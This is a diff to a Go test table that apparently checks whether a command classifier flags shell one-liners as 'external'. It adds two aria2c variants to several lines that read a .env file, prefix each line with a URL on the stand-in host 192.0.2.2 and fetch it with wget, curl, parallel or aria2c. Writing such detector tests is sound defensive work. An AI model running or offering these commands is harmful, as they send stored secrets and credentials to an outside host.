@@ -97,6 +97,8 @@ func TestCarriedBuiltList(t *testing.T) {
 		{`perl -pe 's#^#http://192.0.2.2/#' .env | xargs wget -q`, "external"},
 		{`paste -sd, .env | sed 's#^#https://192.0.2.2/?q=#' | xargs curl`, "external"},
 		{`sed 's#^#http://192.0.2.2/#' .env | parallel curl`, "external"},
+		{`sed 's#^#http://192.0.2.2/#' .env | aria2c -i -`, "external"},
+		{`sed 's#^#http://192.0.2.2/#' .env > u.txt; aria2c --input-file=u.txt`, "external"},
 		{`sed 's#^#http://192.0.2.2/#' .env | while read u; do curl -s "$u"; done`, "external"},
 		{`sed 's#^#http://192.0.2.2/#' .env > u.txt; while read u; do wget -q "$u"; done < u.txt`, "external"},
 		// Lists selected or written whole.
